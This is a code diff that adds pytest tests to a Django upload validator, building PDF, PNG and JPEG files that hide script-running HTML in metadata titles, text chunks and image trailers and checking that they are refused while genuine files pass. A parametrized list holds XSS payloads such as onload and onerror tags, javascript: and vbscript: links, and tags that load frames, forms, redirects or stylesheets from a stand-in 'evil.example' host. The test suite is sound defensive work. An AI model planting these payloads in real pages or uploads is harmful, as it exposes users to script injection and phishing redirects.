@@ -8,10 +8,12 @@ twice the 100 MB an attachment may unpack to, so the tests stay fast.
 from __future__ import annotations
 
 import io
+import random
 import struct
 import tracemalloc
 import zipfile
 import zlib
+from datetime import UTC, datetime
 from typing import Any
 
 import pypdf
@@ -20,9 +22,14 @@ from django.core.exceptions import ValidationError
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.test import Client
 from django.urls import reverse
+from fpdf import FPDF
+from PIL import Image
+from PIL.PngImagePlugin import PngInfo
 from pypdf.errors import DependencyError
+from pypdf.xmp import XmpInformation
 
 from aglomera.accounts.models import Role
+from aglomera.demo.pipeline import DEMO_PDF
 from aglomera.intentions import uploads
 from aglomera.intentions.models import Attachment
 from aglomera.intentions.tests import samples
@@ -292,6 +299,183 @@ def test_it_refuses_a_picture_of_too_many_pixels() -> None:
     assert "has too many pixels (at most 80 million are accepted)" in message
     # And one so large that Pillow itself calls it a decompression bomb
     assert "has too many pixels" in refusal("mapa.png", png_claiming(20_000, 20_000))
+
+
+# --- Item 8: web content hidden in metadata and trailers ----------------------------------
+
+SVG_TITLE = "<svg/onload=alert`1`>"
+IMG_TITLE = "<img src=x onerror=alert`1`>"
+OBJECT_TITLE = "<object data=javascript:alert`1`>"
+
+
+def pdf_titled(title: str, *, raw: bool = True) -> bytes:
+    """A well-formed PDF by pypdf whose document information /Title is `title`. pypdf escapes
+    `<`, `=` and the like as `\\074`; `raw` writes the title's characters as they are, as other
+    programs (and attackers) do, padding with spaces so every offset in the file stays right."""
+    writer = pypdf.PdfWriter()
+    writer.add_blank_page(595, 842)
+    writer.add_metadata({"/Title": title, "/Producer": "pypdf"})
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    document = buffer.getvalue()
+    if not raw:
+        return document
+    start = document.index(b"/Title (") + len(b"/Title ")
+    end = document.index(b")\n", start) + 1
+    literal = b"(" + title.encode("latin-1") + b")"
+    assert len(literal) <= end - start
+    return document[:start] + literal.ljust(end - start) + document[end:]
+
+
+def png_with_text(key: str, text: str) -> bytes:
+    """The genuine PNG with a tEXt chunk `key`: `text`, written by Pillow."""
+    info = PngInfo()
+    info.add_text(key, text)
+    buffer = io.BytesIO()
+    Image.new("RGB", (8, 6), (30, 110, 60)).save(buffer, "PNG", pnginfo=info)
+    return buffer.getvalue()
+
+
+@pytest.mark.parametrize("title", [SVG_TITLE, IMG_TITLE, OBJECT_TITLE])
+def test_it_refuses_a_well_formed_pdf_whose_title_is_web_content(title: str) -> None:
+    # Given a PDF whose /Title, written as a literal string `(...)`, is a tag that runs a script
+    document = pdf_titled(title)
+    assert b"/Title (" + title.encode() + b")" in document
+    # ... which a strict parser opens as a one-page document with that title
+    reader = pypdf.PdfReader(io.BytesIO(document), strict=True)
+    assert (len(reader.pages), reader.metadata and reader.metadata.title) == (1, title)
+    # When it is checked, then it is refused for the web content it carries
+    message = refusal("zamer.pdf", document)
+    assert "besides the PDF document it contains a web page or a script" in message
+
+
+def test_it_refuses_a_png_whose_text_chunk_is_web_content() -> None:
+    # Given a PNG with a tEXt chunk holding a script-running SVG tag, every checksum correct
+    picture = png_with_text("Comment", "<svg onload=alert(1)>")
+    with Image.open(io.BytesIO(picture)) as image:
+        image.verify()
+    with Image.open(io.BytesIO(picture)) as image:
+        assert image.text == {"Comment": "<svg onload=alert(1)>"}  # type: ignore[attr-defined]
+    # Then it is refused
+    assert "besides the PNG document it contains a web page or a script" in refusal(
+        "mapa.png", picture
+    )
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        b"<svg/onload=alert(1)>",
+        b"<SVG\n\tONLOAD = alert(1)>",
+        b"<img/src/onerror=alert(1)>",
+        b'<img src="x"onerror=alert(1)>',
+        b"<details open ontoggle=alert(1)>",
+        b"<custom-tag tabindex=1 autofocus onfocus=alert(1)>",
+        b'<a href="JavaScript:alert(1)">click</a>',
+        b"<a href=vbscript:msgbox(1)>click</a>",
+        b"<embed src=//evil.example/x.swf>",
+        b"<object data=//evil.example/>",
+        b"<iframe/src=//evil.example/>",
+        b"<frameset><frame src=//evil.example/>",
+        b"<form action=//evil.example/login>",
+        b'<meta http-equiv="refresh" content="0;url=//evil.example/">',
+        b"<link rel=stylesheet href=//evil.example/x.css>",
+        b"<base href=//evil.example/>",
+        b"<style>@import '//evil.example/x.css'</style>",
+        b"<math><mtext><table><mglyph><style><img src=x>",
+    ],
+)
+def test_it_refuses_a_jpeg_followed_by_web_content(payload: bytes) -> None:
+    # Given a genuine JPEG with web content after the end of the image (a "trailer")
+    picture = samples.jpeg() + payload
+    with Image.open(io.BytesIO(picture)) as image:
+        image.load()
+    # Then it is refused, whatever the case, spacing or `/` after the tag name
+    assert "besides the JPEG document it contains a web page or a script" in refusal(
+        "foto.jpg", picture
+    )
+
+
+def noise_pdf(seed: int) -> bytes:
+    """An fpdf2 PDF with a title, a link, text with `<` and `>`, and two pictures of random
+    pixels: a PNG one stored as a deflated stream and a JPEG one, megabytes of random bytes in
+    which short tag-like fragments (`<a `, `<x on...`) turn up by chance."""
+    noise = random.Random(seed)  # noqa: S311 - pixels, not secrets: the same file every run
+    pdf = FPDF()
+    pdf.set_title("Studie <proveditelnosti> > 5 mil. Kč")
+    pdf.set_creation_date(datetime(2025, 1, 1, tzinfo=UTC))
+    pdf.add_page()
+    pdf.set_font("helvetica", size=12)
+    pdf.cell(text="Costs < 5 million and > 1 million", link="https://example.org/on?x=1")
+    pdf.image(Image.frombytes("RGB", (1024, 1024), noise.randbytes(3 * 1024 * 1024)), w=80)
+    photo = io.BytesIO()
+    Image.frombytes("RGB", (512, 512), noise.randbytes(3 * 512 * 512)).save(
+        photo, "JPEG", quality=95
+    )
+    pdf.image(photo, w=80)
+    return bytes(pdf.output())
+
+
+def fpdf_plain() -> bytes:
+    pdf = FPDF()
+    pdf.set_title("Studie proveditelnosti")
+    pdf.add_page()
+    pdf.set_font("helvetica", size=14)
+    pdf.cell(text="Aglomera - feasibility study")
+    return bytes(pdf.output())
+
+
+def pypdf_compressed() -> bytes:
+    """A pypdf PDF whose content stream is compressed, with an XMP metadata packet."""
+    writer = pypdf.PdfWriter()
+    writer.add_blank_page(595, 842)
+    writer.add_metadata({"/Title": "Studie proveditelnosti", "/Author": "Odbor <ITI>"})
+    xmp = XmpInformation.create()
+    xmp.dc_title = {"x-default": "Studie proveditelnosti"}
+    xmp.dc_creator = ["Odbor ITI"]
+    xmp.dc_format = "application/pdf"
+    xmp.xmp_creator_tool = "Writer"
+    xmp.xmp_create_date = datetime(2025, 1, 1, tzinfo=UTC)
+    xmp.pdf_producer = "LibreOffice"
+    xmp.xmpmm_document_id = "uuid:9f0b1c3e-online"
+    writer.xmp_metadata = xmp
+    for page in writer.pages:
+        page.compress_content_streams()
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
+@pytest.mark.parametrize(
+    ("name", "build"),
+    [
+        ("studie.pdf", fpdf_plain),
+        ("studie.pdf", lambda: noise_pdf(1)),
+        ("studie.pdf", lambda: noise_pdf(2)),
+        ("studie.pdf", pypdf_compressed),
+        ("studie.pdf", lambda: DEMO_PDF),
+        ("studie.pdf", lambda: pdf_titled("Náklady < 5 mil. Kč; online = ano", raw=False)),
+        ("studie.pdf", lambda: pdf_titled("Costs <5 million> & online = yes")),
+        ("mapa.png", lambda: png_with_text("Software", "Map <export> onboarding=yes")),
+        ("foto.jpg", lambda: samples.jpeg() + b"<b>caption</b> <a href=https://example.org/>"),
+    ],
+    ids=[
+        "fpdf2",
+        "fpdf2-noise-1",
+        "fpdf2-noise-2",
+        "pypdf-xmp",
+        "demo",
+        "pypdf-title",
+        "raw-title",
+        "png-text",
+        "jpeg-harmless-tags",
+    ],
+)
+def test_genuine_files_with_tag_like_bytes_are_accepted(name: str, build: Any) -> None:
+    # Given genuine documents with `<<` dictionaries, `<hex>` strings, compressed random pixels
+    # and text with `<` and `>` in it, then none is taken for a web page
+    content = build()
+    assert uploads.check_upload(upload(name, content)).size == len(content)
 
 
 # --- Item 4: office documents -------------------------------------------------------------
